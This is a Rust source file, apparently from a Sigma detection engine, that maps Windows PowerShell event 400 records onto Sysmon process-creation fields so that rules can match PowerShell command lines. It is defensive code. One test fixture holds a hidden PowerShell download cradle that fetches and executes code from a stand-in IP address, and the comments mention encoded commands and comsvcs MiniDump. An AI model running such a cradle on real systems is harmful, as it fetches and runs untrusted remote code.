//! Windows PowerShell 400 (the engine started) under Sysmon's process creation names.
//!
//! Every PowerShell start writes event 400 to the classic "Windows PowerShell" log, on every
//! Windows, without any audit policy: its details name the `HostApplication`, which for
//! powershell.exe and pwsh.exe is the full command line the process was started with
//! (`powershell.exe -nop -w hidden -enc ...`, a download cradle, a comsvcs MiniDump). A host
//! that does not audit process creation with command lines (4688 without them, no Sysmon)
//! still records that one. SigmaHQ's `process_creation` rules for PowerShell command lines
//! read it through this mapping:
//!
//! - `CommandLine` is the host application as recorded;
//! - `Image` is its program: the first token, unquoted; a bare `powershell`/`powershell.exe`
//!   or `pwsh`/`pwsh.exe` (started through the search path) is given the path Windows starts
//!   it from, so that rules comparing the end of `Image` (`\powershell.exe`) match;
//! - `OriginalFileName` is `PowerShell.EXE` or `pwsh.dll` when the program is one of those.
//!
//! 400 names no parent, no user and no process id, so rules that ask for them do not fire on
//! it. A host that also audits process creation reports the same start twice, once in each
//! record.
//!
//! Reference: the classic PowerShell event log (PowerShell 2.0 and later), event 400 "Engine
//! state is changed from None to Available"; Sysmon's Event ID 1.

use std::borrow::Cow;

use rsigma_eval::EventValue;
use serde_json::{Map, Value};

/// The `HostApplication=` detail of a 400 record's unnamed data (EVTX `{"#text": [..]}`, a
/// flat array or one text).
fn host_application(data: &Map<String, Value>) -> Option<&str> {
    let parts: Vec<&str> = match data.get("Data")? {
        Value::Object(o) => match o.get("#text")? {
            Value::Array(a) => a.iter().filter_map(Value::as_str).collect(),
            Value::String(s) => vec![s.as_str()],
            _ => return None,
        },
        Value::Array(a) => a.iter().filter_map(Value::as_str).collect(),
        Value::String(s) => vec![s.as_str()],
        _ => return None,
    };
    parts.into_iter().find_map(|p| {
        p.lines().find_map(|l| {
            l.trim_start()
                .strip_prefix("HostApplication=")
                .map(str::trim)
                .filter(|v| !v.is_empty())
        })
    })
}

/// The program of a command line: the quoted first token, or, unquoted, everything up to the
/// first `.exe` (a path with spaces, as Windows itself resolves it), else the first word.
fn program(command_line: &str) -> &str {
    let c = command_line.trim_start();
    if let Some(rest) = c.strip_prefix('"') {
        return rest.split('"').next().unwrap_or(rest);
    }
    if let Some(end) = c.to_ascii_lowercase().find(".exe") {
        return &c[..end + ".exe".len()];
    }
    c.split_whitespace().next().unwrap_or(c)
}

/// Which PowerShell a program name is, if any: (`Image` for a bare name, `OriginalFileName`).
fn powershell(program: &str) -> Option<(&'static str, &'static str)> {
    let name = program.rsplit(['\\', '/']).next().unwrap_or(program);
    let name = name.to_ascii_lowercase();
    match name.strip_suffix(".exe").unwrap_or(&name) {
        "powershell" => Some((
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "PowerShell.EXE",
        )),
        "pwsh" => Some(("C:\\Program Files\\PowerShell\\7\\pwsh.exe", "pwsh.dll")),
        _ => None,
    }
}

/// Sysmon-named `field` on a 400 record's `EventData`.
pub(super) fn lookup<'a>(data: &'a Map<String, Value>, field: &str) -> Option<EventValue<'a>> {
    let command_line = host_application(data)?;
    match field {
        "CommandLine" => Some(EventValue::Str(Cow::Borrowed(command_line))),
        "Image" => {
            let program = program(command_line);
            let bare = !program.contains(['\\', '/']);
            Some(EventValue::Str(match powershell(program) {
                Some((path, _)) if bare => Cow::Borrowed(path),
                _ => Cow::Borrowed(program),
            }))
        }
        "OriginalFileName" => {
            powershell(program(command_line)).map(|(_, original)| EventValue::Str(original.into()))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn get(d: &Value, field: &str) -> Option<String> {
        lookup(d.as_object().unwrap(), field).and_then(|v| v.as_str().map(|s| s.into_owned()))
    }

    const DETAILS: &str = "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n\tHostName=ConsoleHost\n\tHostVersion=5.1.19041.1\n\tHostApplication=powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n\tEngineVersion=5.1.19041.1\n\tCommandLine=";

    #[test]
    fn the_host_application_is_the_command_line_and_names_the_program() {
        // EVTX layout: the unnamed data elements under #text.
        let evtx = json!({"Data": {"#text": ["Available", "None", DETAILS]}});
        assert!(
            get(&evtx, "CommandLine")
                .unwrap()
                .starts_with("powershell.exe -nop -w hidden")
        );
        // A bare name gets the path Windows starts it from.
        assert_eq!(
            get(&evtx, "Image").as_deref(),
            Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
        );
        assert_eq!(
            get(&evtx, "OriginalFileName").as_deref(),
            Some("PowerShell.EXE")
        );
        // Flat layout, a quoted full path to pwsh.
        let flat = json!({"Data": ["Available", "None",
            "\tHostApplication=\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -enc SQBFAFgA\n\tEngineVersion=7.4"]});
        assert_eq!(
            get(&flat, "Image").as_deref(),
            Some("C:\\Program Files\\PowerShell\\7\\pwsh.exe")
        );
        assert_eq!(get(&flat, "OriginalFileName").as_deref(), Some("pwsh.dll"));
    }

    #[test]
    fn other_hosts_keep_their_program_and_records_without_a_host_say_nothing() {
        let hosted = json!({"Data": ["Available", "None",
            "\tHostApplication=C:\\Program Files\\Agent\\agent.exe /run\n"]});
        assert_eq!(
            get(&hosted, "Image").as_deref(),
            Some("C:\\Program Files\\Agent\\agent.exe")
        );
        assert_eq!(get(&hosted, "OriginalFileName"), None);
        let empty = json!({"Data": ["Stopped", "Available", "\tHostApplication=\n"]});
        assert_eq!(get(&empty, "CommandLine"), None);
        assert_eq!(get(&json!({"Other": "x"}), "Image"), None);
    }
}
